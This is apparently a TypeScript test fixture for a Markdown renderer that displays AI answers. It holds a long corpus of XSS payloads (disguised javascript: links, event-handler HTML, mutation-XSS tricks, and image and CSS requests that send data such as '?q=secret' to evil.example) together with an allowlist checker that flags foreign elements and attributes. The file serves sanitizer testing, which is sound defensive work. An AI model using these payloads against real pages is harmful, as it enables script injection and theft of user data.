/**
 * What a hostile model might write. `pwn()` is the script that must not run, `evil.example` the host
 * that must not be asked.
 */
export const xssCorpus: readonly string[] = [
  // Schemes of links, plain and disguised.
  '[a](javascript:pwn())',
  '[a](JaVaScRiPt:pwn())',
  '[a]( javascript:pwn())',
  '[a](<javascript:pwn()>)',
  '[a](java\tscript:pwn())',
  '[a](<java\nscript:pwn()>)',
  '[a](java\rscript:pwn())',
  '[a](\u0001javascript:pwn())',
  '[a](\u00a0javascript:pwn())',
  '[a](java\u0000script:pwn())',
  '[a](javascript&colon;pwn())',
  '[a](javascript&#58;pwn&#40;&#41;)',
  '[a](&#x6A;&#x61;vascript:pwn())',
  '[a](&#0000106avascript:pwn())',
  '[a](java&Tab;script:pwn())',
  '[a](java&NewLine;script:pwn())',
  '[a](javascript\\:pwn\\(\\))',
  '[a](javascript%3Apwn())',
  '[a](\\javascript:pwn())',
  '[a](javascript://evil.example/%0Apwn())',
  '[a](javascript:pwn()//http://evil.example)',
  '[a](vbscript:pwn())',
  '[a](livescript:pwn())',
  '[a](data:text/html,<script>pwn()</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)',
  '[a](DATA:image/svg+xml,<svg onload=pwn()>)',
  '[a](blob:https://evil.example/0)',
  '[a](file:///etc/passwd)',
  '[a](view-source:javascript:pwn())',
  '[a](filesystem:http://evil.example/)',
  '[a](intent://evil.example#Intent;end)',
  '[a](//evil.example/x)',
  '[a](/llm/version)',
  '[a](#clobber)',
  // Other ways to a link.
  '<javascript:pwn()>',
  '<JAVASCRIPT:pwn()>',
  '<data:text/html,<script>pwn()</script>>',
  '<https://evil.example/"onmouseover="pwn()>',
  'https://evil.example/"onmouseover="pwn() x',
  "https://evil.example/'><img src=x onerror=pwn()>",
  '[a][r]\n\n[r]: javascript:pwn()',
  '[r]\n\n[r]: data:text/html,<script>pwn()</script> "t"',
  '[a][r]\n\n[r]: <java\tscript:pwn()>',
  '[r]: https://evil.example/"onclick="pwn()\n\n[r]',
  '[a](https://evil.example/ "x\\" onclick=\\"pwn()")',
  "[a](https://evil.example/ '\"><img src=x onerror=pwn()>')",
  '[a](https://evil.example/"onclick="pwn())',
  '[a](https://evil.example/`onclick=`pwn())',
  '[a](https://evil.example\\" onclick=pwn())',
  '[[a](javascript:pwn())](https://evil.example)',
  '[a [b](javascript:pwn()) c](javascript:pwn())',
  '[<img src=x onerror=pwn()>](https://evil.example)',
  '[![a](javascript:pwn())](javascript:pwn())',
  '[![a](https://evil.example/1.png)](https://evil.example/2)',
  '[a](mailto:a@evil.example?body="><script>pwn()</script>)',
  'user"onclick="pwn()@evil.example',
  // Images: asking for one can carry the conversation away.
  '![a](https://evil.example/i.png?q=secret)',
  '![a](//evil.example/i.png)',
  '![a](/i.png)',
  '![a](javascript:pwn())',
  '![a](data:image/svg+xml,<svg onload="pwn()"/>)',
  '![a" onerror="pwn()](https://evil.example/i.png)',
  '![<script>pwn()</script>](https://evil.example/i.png)',
  '![a](https://evil.example/i.png"onerror="pwn())',
  '![a][i]\n\n[i]: https://evil.example/i.png "x"onload="pwn()"',
  // HTML.
  '<script>pwn()</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<script\n>pwn()</script\n>',
  '<<script>pwn()//<</script>',
  '<img src=x onerror=pwn()>',
  '<img src="https://evil.example/i.png" srcset="https://evil.example/2.png 2x">',
  '<IMG """><SCRIPT>pwn()</SCRIPT>">',
  '<img/src=x/onerror=pwn()>',
  '<picture><source srcset="https://evil.example/s.png"><img></picture>',
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<svg><a xlink:href="javascript:pwn()"><text y="9">a</text></a></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/s.svg#x"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:pwn()">a</maction></math>',
  '<iframe src="javascript:pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<object data="data:text/html,<script>pwn()</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video src="https://evil.example/v.mp4" onerror=pwn() autoplay>',
  '<audio><source src=x onerror=pwn()></audio>',
  '<body onload=pwn()>',
  '<details open ontoggle=pwn()>a</details>',
  '<input autofocus onfocus=pwn()>',
  '<marquee onstart=pwn()>a</marquee>',
  '<div style="background:url(https://evil.example/b.png)">a</div>',
  '<div style="position:fixed;inset:0;z-index:9">a</div>',
  '<style>*{background:url(https://evil.example/c.png)}</style>',
  '<style>@import "https://evil.example/c.css";</style>',
  '<link rel=stylesheet href="https://evil.example/c.css">',
  '<link rel=prefetch href="https://evil.example/p">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=a><button>Log in</button></form>',
  '<button formaction="javascript:pwn()">a</button>',
  '<a href="javascript:pwn()">a</a>',
  '<a href="https://evil.example/" ping="https://evil.example/p">a</a>',
  '<a id=violations name=violations href="https://evil.example/">a</a>',
  '<form id=startAnswer><input name=content></form>',
  '<img name=body><img name=getElementById>',
  '<template shadowrootmode=open><script>pwn()</script></template>',
  '<dialog open><h1>Session expired</h1></dialog>',
  '<portal src="https://evil.example/">',
  '<p class="code-copy" role="alert" tabindex="1" contenteditable>a</p>',
  // Comments, CDATA and what is parsed differently the second time.
  '<!-- --><script>pwn()</script> -->',
  '<!--><img src=x onerror=pwn()>-->',
  '<![CDATA[<script>pwn()</script>]]>',
  '<?xml version="1.0"?><script>pwn()</script>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<textarea><img title="</textarea><img src=x onerror=pwn()>">',
  '<title><a title="</title><img src=x onerror=pwn()>">',
  '<xmp><p title="</xmp><svg/onload=pwn()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwn()>">',
  '<svg></p><style><a title="</style><img src=x onerror=pwn()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>',
  '<select><noembed></select><script>"><img src=x onerror=pwn()></script>',
  '&lt;img src=x onerror=pwn()&gt;',
  '&#60;script&#62;pwn()&#60;/script&#62;',
  // Through Markdown's own constructs.
  '```"><img/src=x/onerror=pwn()>\na\n```',
  '```js" onmouseover="pwn()\nlet a;\n```',
  '```html\n<script>pwn()</script><img src=x onerror=pwn()>\n```',
  '```js\n`</code></pre><img src=x onerror=pwn()>`\n```',
  '```\n</code></pre><script>pwn()</script>\n```',
  '~~~code-copy fixed\na\n~~~',
  '    <img src=x onerror=pwn()>',
  '`<img src=x onerror=pwn()>`',
  '``</code><img src=x onerror=pwn()>``',
  '# <img src=x onerror=pwn()>',
  '> <script>pwn()</script>\n> <img src=x onerror=pwn()>',
  '- <svg onload=pwn()>\n  - [a](javascript:pwn())',
  '- [x] <input autofocus onfocus=pwn()>',
  '1. a\n99999999999999999999. <img src=x onerror=pwn()>',
  '| a | b |\n|---|---|\n| <img src=x onerror=pwn()> | [a](javascript:pwn()) |',
  '| <script>pwn()</script> |\n|:--"onclick="pwn():|\n| a |',
  '**<img src=x onerror=pwn()>** _[a](javascript:pwn())_ ~~<svg onload=pwn()>~~',
  '[^1]\n\n[^1]: <img src=x onerror=pwn()>',
  '<br onclick=pwn()><br/><br /><br\n>',
  '$<img src=x onerror=pwn()>$ \\(<svg onload=pwn()>\\) $$\n<script>pwn()</script>\n$$',
  '<img src=x:x onerror\u000b=pwn()>',
  '\ud800<img src=x onerror=pwn()>\udfff',
  '[a](https://evil.example/\u202egnp.exe)',
  // Formulas.
  '$\\href{javascript:pwn()}{x}$ and',
  '\\(\\url{javascript:pwn()}\\) and $\\htmlData{onclick=pwn()}{x}$ and',
  '$$\\text{<img src=x onerror=pwn()>}$$ and $\\unicode{x3c}script$ and',
  '[a](https://b.example/$x$) and `$x$` and ![$x$](javascript:$x$)',
];

/**
 * What `content` holds that an answer may not contain: elements, attributes, values. It runs in the
 * page, so it uses nothing from outside.
 */
export function foreignParts(content: Element): string[] {
  const plain = /^(?:blockquote|br|del|em|h[1-6]|hr|li|p|span|strong|table|tbody|thead|tr|ul)$/;
  const allowed: Record<string, Record<string, RegExp>> = {
    a: {
      href: /^(?:https?:\/\/[^/]|mailto:.)/,
      rel: /^noopener noreferrer$/,
      target: /^_blank$/,
    },
    button: { type: /^button$/, class: /^code-copy$/, 'aria-label': /^Copy code$/ },
    code: { class: /^language-[\w+#.-]+$/ },
    div: {
      class: /^(?:code-block|code-bar|table-scroll)$/,
      role: /^region$/,
      tabindex: /^0$/,
      'aria-label': /^Table$/,
    },
    ol: { start: /^\d{1,9}$/ },
    pre: { tabindex: /^0$/ },
    span: {
      class: /^(?:formula(?: display)?|code-language|language-[\w-]+|hljs-[\w-]+(?: \w+_)*)$/,
      tabindex: /^0$/,
    },
    table: { style: /^table-layout: fixed; min-width: [\d.]+em;$/ },
    td: { align: /^(?:left|center|right)$/ },
    th: { align: /^(?:left|center|right)$/, style: /^width: [\d.]+px;$/ },
  };
  const foreign: string[] = [];
  for (const element of content.querySelectorAll('*')) {
    const attributes = allowed[element.localName];
    const isHtml = element.namespaceURI === 'http://www.w3.org/1999/xhtml';
    if (element.namespaceURI === 'http://www.w3.org/1998/Math/MathML') {
      const isFormula = element.closest('.formula') !== null;
      const isTag = /^(?:math|m[a-z]+)$/.test(element.localName) && element.localName !== 'maction';
      const names = [...element.attributes].map(({ name }) => name);
      const bad = names.filter((name) => /^(?:on|id$|xlink|href|src)/.test(name));
      if (!isFormula || !isTag || bad.length > 0) foreign.push(element.outerHTML);
      continue;
    }
    if (!isHtml || (attributes === undefined && !plain.test(element.localName))) {
      foreign.push(element.outerHTML);
    }
    for (const { name, value } of element.attributes) {
      const isDirection = name === 'dir' && /^(?:auto|ltr|rtl)$/.test(value);
      if (!isDirection && attributes?.[name]?.test(value) !== true)
        foreign.push(`${name}="${value}"`);
    }
    const scheme = element instanceof HTMLAnchorElement && element.protocol;
    if (scheme && !['http:', 'https:', 'mailto:', ':'].includes(scheme)) foreign.push(scheme);
  }
  // A button of our own belongs to a code block of ours, a link to nobody else.
  for (const button of content.querySelectorAll('button')) {
    if (button.parentElement?.className !== 'code-bar') foreign.push(button.outerHTML);
  }
  for (const link of content.querySelectorAll('a a')) foreign.push(link.outerHTML);
  return foreign;
}
